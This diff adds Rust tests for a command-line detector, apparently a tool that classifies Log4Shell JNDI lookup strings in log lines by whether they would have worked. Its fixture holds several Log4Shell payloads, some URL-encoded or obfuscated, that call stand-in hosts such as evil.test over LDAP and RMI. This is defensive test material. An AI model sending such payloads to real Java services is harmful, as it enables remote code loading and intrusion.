@@ -119,3 +119,93 @@ fn a_sweep_is_named_and_nobody_is_called_compromised() {
     assert!(why["likelihood"].as_f64() > why["threshold"].as_f64());
     place.expect(1, &["watch", "explain", "C-9999"]);
 }
+
+/// Payloads in plain and wrapped spelling, in a log and alone, and texts that only look like it.
+const TEXTS: &str = "\
+192.0.2.1 - - [10/Dec/2021:02:05:58 +0000] \"GET / HTTP/1.1\" 200 9 \
+\"-\" \"%24%7Bjndi:ldap://Evil.test:1389/a%7D\"\n\
+${${lower:j}ndi:rmi://evil.test/x}\n\
+$${jndi:ldap://evil.test/a}\n\
+${jndi:java:comp/env/x}\n\
+just ${HOME} and jndi:ldap\n";
+
+#[test]
+fn each_line_gets_its_verdict() {
+    let place = Place::new();
+    place.write("texts", TEXTS);
+    let told = place.expect(0, &["watch", "decode", "texts", "--text"]);
+    expect![[r#"
+        line 1: would have worked, asks another machine (user-agent)
+          would have asked ldap://evil.test:1389
+            %24%7Bjndi:ldap://Evil.test:1389/a%7D
+            ${jndi:ldap://Evil.test:1389/a}
+        line 2: would have worked, asks another machine (line)
+          would have asked rmi://evil.test
+            ${${lower:j}ndi:rmi://evil.test/x}
+        line 3: attempt that could not work: escaped by a dollar sign (line)
+          would have asked ldap://evil.test
+            $${jndi:ldap://evil.test/a}
+        line 4: asks for a name inside the application (line)
+            ${jndi:java:comp/env/x}
+        line 5: harmless
+        --- stderr
+        5 lines, 3 effective, 1 attempt
+        --- status 0
+    "#]]
+    .assert_eq(&told.text());
+    let told = place.expect(0, &["watch", "decode", "texts", "--text", "--lang", "fr"]);
+    assert!(told.stdout.contains("neutralisée par un dollar"), "{}", told.text());
+    assert_eq!(told.stderr, "5 lignes, 3 efficaces, 1 tentative\n");
+}
+
+#[test]
+fn one_document_a_line_with_or_without_the_option() {
+    let place = Place::new();
+    let told = place.feed(&["watch", "decode"], TEXTS.as_bytes());
+    assert_eq!(told.stdout, place.feed(&["watch", "decode", "--json"], TEXTS.as_bytes()).stdout);
+    let rows: Vec<serde_json::Value> =
+        told.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let verdicts: Vec<_> = rows.iter().map(|row| row["verdict"].as_str().unwrap()).collect();
+    assert_eq!(verdicts, ["effective", "effective", "attempt", "effective", "benign"]);
+    assert_eq!(rows[0]["schema"], "relight.decode/1");
+    assert_eq!(rows[0]["callback"]["host"], "evil.test");
+    assert_eq!(rows[0]["callback"]["port"], 1389);
+    assert_eq!(rows[0]["format"], "combined");
+    assert_eq!(rows[2]["detail"], "escaped");
+    assert_eq!(rows[3]["callback"], serde_json::Value::Null);
+}
+
+/// The message itself is not decoded; a line of the log is.
+#[test]
+fn exact_means_as_the_library_is_given_it() {
+    let place = Place::new();
+    let text = b"%24{jndi:ldap://x/a}\n${jndi:ldap://x/\\x41}\n";
+    let verdict = |arguments: &[&str]| -> Vec<String> {
+        let told = place.feed(arguments, text).stdout;
+        let rows = told.lines().map(|line| serde_json::from_str(line).unwrap());
+        rows.map(|row: serde_json::Value| format!("{} {}", row["verdict"], row["key"])).collect()
+    };
+    let decoded = verdict(&["watch", "decode"]);
+    assert_eq!(decoded[0], r#""effective" "ldap://x/a""#);
+    let exact = verdict(&["watch", "decode", "--exact"]);
+    assert_eq!(exact, [r#""benign" null"#, r#""effective" "ldap://x/\\x41""#]);
+}
+
+#[test]
+fn hostile_lines_are_answered_too() {
+    let place = Place::new();
+    let mut input = b"\0\xff${jndi:ldap://x/\xfe\0}\n\n".to_vec();
+    input.extend(vec![b'a'; 1 << 20]);
+    input.extend(b" ${jndi:ldap://x/far}\n");
+    input.extend(vec![b'a'; (2 << 20) + 1]);
+    input.extend(b"\nlast");
+    let told = place.feed(&["watch", "decode"], &input);
+    assert_eq!(told.status, 0, "{}", told.stderr);
+    let rows: Vec<serde_json::Value> =
+        told.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let seen: Vec<_> = rows.iter().map(|row| row["verdict"].as_str().unwrap()).collect();
+    assert_eq!(seen, ["effective", "benign", "effective", "attempt", "benign"]);
+    assert_eq!((&rows[3]["detail"], &rows[3]["cut"]), (&"over-limit".into(), &true.into()));
+    let told = place.run(&["watch", "decode", "nowhere"]);
+    assert_eq!(told.status, 1);
+}
